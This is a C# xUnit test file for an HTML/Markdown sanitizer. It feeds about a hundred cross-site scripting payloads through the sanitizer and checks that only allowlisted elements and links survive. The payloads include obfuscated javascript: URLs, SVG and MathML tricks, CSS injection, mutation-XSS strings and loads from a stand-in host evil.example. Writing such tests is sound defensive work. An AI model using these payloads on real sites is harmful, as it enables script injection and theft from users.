using System.Text.RegularExpressions;
using AngleSharp.Html.Parser;
using Headway.Research.Report;

namespace Headway.Research.Tests.Report;

public sealed partial class SafeMarkdownTests
{
    private static readonly HashSet<string> s_elements =
    [
        "html", "head", "body", "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li",
        "a", "table", "thead", "tbody", "tr", "th", "td",
    ];

    public static TheoryData<string> Vectors { get; } =
    [
        // Event handlers, with broken quotes and separators.
        "<p onclick=alert(1)>x</p>", "<a href=https://a.example onmouseover=alert(1)>x</a>", "<img src=x onerror=alert(1)>", "<img/src='x'/onerror=alert(1)>",
        "<body onload=alert(1)>", "<div onpointerenter=\"alert(1)\">x", "<details open ontoggle=alert(1)>x", "<p\nonclick\n=\nalert(1)>x", "<p/onclick=alert(1)//>x",
        "<img \"\"\"><script>alert(1)</script>\">", "<video><source onerror=alert(1)></video>", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",

        // Addresses that run scripts: letters of either case, entities, control characters, credentials.
        "<a href=javascript:alert(1)>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
        "<a href='java&#10;script:alert(1)'>x</a>", "<a href='java&Tab;script&colon;alert(1)'>x</a>", "<a href='\u0001javascript:alert(1)'>x</a>",
        "<a href=' \r\n javascript:alert(1)'>x</a>", "<a href='java\0script:alert(1)'>x</a>", "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href=vbscript:msgbox(1)>x</a>", "<a href='feed:javascript:alert(1)'>x</a>",
        "<a href='view-source:javascript:alert(1)'>x</a>", "<a href=blob:https://a.example/1>x</a>", "<a href=file:///etc/passwd>x</a>", "<a href=/v1/jobs>x</a>",
        "<a href=//evil.example>x</a>", "<a href='\\\\evil.example\\x'>x</a>", "<a href=?q>x</a>", "<a href=#other>x</a>", "<a href=''>x</a>", "<a xlink:href=javascript:alert(1)>x</a>",
        "<a href=https://a.example ping=https://evil.example target=_blank download style=position:fixed id=x name=x class=x>x</a>",

        // Other name spaces.
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<svg><set attributeName=href to=javascript:alert(1)></svg>", "<svg><use href='data:image/svg+xml,<svg/>#x'/></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<math href=javascript:alert(1)>x</math>",
        "<math><maction actiontype=statusline#http://a xlink:href=javascript:alert(1)>x</maction></math>", "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",

        // Styles.
        "<style>@import 'https://evil.example/x.css';</style>", "<style>body{background:url(javascript:alert(1))}</style>", "<p style='background:url(https://evil.example/x)'>x</p>",
        "<p style='width:expression(alert(1))'>x</p>", "<p style='text-align:url(https://evil.example/x)'>x</p>", "<p style='text-align:left;position:fixed;top:0'>x</p>",
        "<p style='-moz-binding:url(https://evil.example/x)'>x</p>", "<p style='te\\78t-align:left;b\\61ckground:u\\72l(https://evil.example/x)'>x</p>", "<link rel=stylesheet href=https://evil.example/x.css>",

        // Elements that load, redirect or send.
        "<img srcset='https://evil.example/x 1x'>", "<picture><source srcset=https://evil.example/x></picture>", "<form action=https://evil.example><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x</button>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example>",
        "<iframe src=https://evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>", "<frameset onload=alert(1)><frame src=x></frameset>", "<portal src=https://evil.example></portal>", "<audio src=https://evil.example autoplay></audio>",
        "<table background=https://evil.example/x><tr><td background=https://evil.example/x>x</table>", "<isindex type=image src=x onerror=alert(1)>", "<bgsound src=x>",
        "<script src=https://evil.example/x.js></script>", "<script>alert(1)", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT/XSS SRC=x></SCRIPT>", "<?xml-stylesheet href=x?>",
        "<custom-element onclick=alert(1)>x</custom-element>", "<p is=x-y contenteditable accesskey=x tabindex=0 draggable=true>x</p>",

        // QuestionShapes that change when they are parsed again.
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
        "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
        "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">", "<plaintext><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>", "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>", "<select><style></select><img src=x onerror=alert(1)></style>",
        "<p><a href=https://a.example><table><a href=javascript:alert(1)>x</a></table></a>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<code title='`'><img src=x onerror=alert(1)></code>", "<<p>><<script>alert(1)//<</script>", "<img src=x onerror=alert(1)//", "</p><script>alert(1)</script", "<a href=\"https://a.example/\"><b></a><i onclick=alert(1)>",
    ];

    private static readonly HashSet<int> s_citations = [1];

    private static readonly HashSet<string> s_addresses = ["https://a.example/?a=1&b=2", "https://b.example/"];

    public static TheoryData<string> MarkdownVectors { get; } =
    [
        "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](JAVASCRIPT:alert(1))", "[x](java&#115;cript:alert(1))", "[x](&#x6A;avascript&colon;alert(1))", "[x](data:text/html,x)",
        "[x][r]\n\n[r]: javascript:alert(1)", "[x][r]\n\n[r]: vbscript:x \"t\"", "<javascript:alert(1)>", "<data:text/html,x>", "[x](//evil.example)", "[x](/v1/jobs)", "[x](\\\\evil.example)",
        "![x](https://evil.example/p.png)", "![x][r]\n\n[r]: https://evil.example/p.png", "[![x](https://evil.example/p)](javascript:alert(1))", "[x](https://a.example \"\\\"onclick=alert(1)\")",
        "[x](https://a.example/\"onclick=\"alert(1))", "[1](javascript:alert(1))", "[1]: javascript:alert(1)", "``` \"><script>alert(1)</script>\nx\n```", "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "<script>alert(1)</script>", "\\<script>alert(1)</script>", "<p onclick=alert(1)>x", "# <svg onload=alert(1)>", "> <iframe src=x>", "`<script>`<script>alert(1)</script>", "- [x](javascript\\:alert(1))",
    ];

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Sanitize_HostileHtml_RemovesActiveContent(string html)
    {
        var clean = SafeMarkdown.Sanitize(html);
        AssertHarmless(clean);
        Assert.Equal(clean, SafeMarkdown.Sanitize(clean));
    }

    [Theory]
    [MemberData(nameof(Vectors))]
    [MemberData(nameof(MarkdownVectors))]
    public void ToHtml_HostileMarkdown_RemovesActiveContent(string markdown) => AssertHarmless(SafeMarkdown.ToHtml(markdown, s_citations, s_addresses));

    [Fact]
    public void Sanitize_DeeplyNestedHtml_Ends() => AssertHarmless(SafeMarkdown.Sanitize(string.Concat(Enumerable.Repeat("<blockquote><svg>", 5000)) + "<img src=x onerror=alert(1)>"));

    [Fact]
    public void ToHtml_OrdinaryMarkdown_KeepsItsForm()
    {
        const string markdown = """
            ## Heading

            *One* **two** `three` [four](https://a.example/?a=1&b=2) [1] [9] <https://b.example/> [five](https://made.up/) <https://made.up/x>

            3. item

            | left | right |
            |:-----|------:|
            | a    | b     |
            """;

        var page = new HtmlParser().ParseDocument(SafeMarkdown.ToHtml(markdown, s_citations, s_addresses));

        Assert.Equal(["https://a.example/?a=1&b=2", "#citation-1", "https://b.example/"], page.QuerySelectorAll("a").Select(link => link.GetAttribute("href")));
        Assert.Equal("[1]", page.QuerySelectorAll("a")[1].TextContent);
        Assert.Contains("five https://made.up/x", page.QuerySelector("p")!.TextContent, StringComparison.Ordinal);
        Assert.Contains("[9]", page.QuerySelector("p")!.TextContent, StringComparison.Ordinal);
        Assert.Equal("3", page.QuerySelector("ol")!.GetAttribute("start"));
        Assert.Equal(["text-align: left", "text-align: right"], page.QuerySelectorAll("td").Select(cell => cell.GetAttribute("style")!.TrimEnd(';')));
        Assert.NotNull(page.QuerySelector("h2 + p > em + strong + code"));
    }

    /// <summary>Checks a fragment as a browser parses it, with scripting on and off.</summary>
    private static void AssertHarmless(string html)
    {
        foreach (var isScripting in new[] { true, false })
        {
            var page = new HtmlParser(new HtmlParserOptions { IsScripting = isScripting }).ParseDocument("<!doctype html><body>" + html);
            Assert.All(page.All, element => Assert.Contains(element.LocalName, s_elements));
            foreach (var attribute in page.All.SelectMany(element => element.Attributes))
            {
                var allowed = attribute.Name switch
                {
                    "href" => LinkPattern(),
                    "start" => NumberPattern(),
                    "style" => AlignPattern(),
                    _ => null,
                };
                Assert.True(allowed?.IsMatch(attribute.Value), $"{attribute.Name}={attribute.Value}");
            }
        }
    }

    [GeneratedRegex(@"^(https?://[a-z].*|#citation-\d+)$", RegexOptions.IgnoreCase)]
    private static partial Regex LinkPattern();

    [GeneratedRegex(@"^\d+$")]
    private static partial Regex NumberPattern();

    [GeneratedRegex(@"^text-align: (left|right|center);?$")]
    private static partial Regex AlignPattern();
}
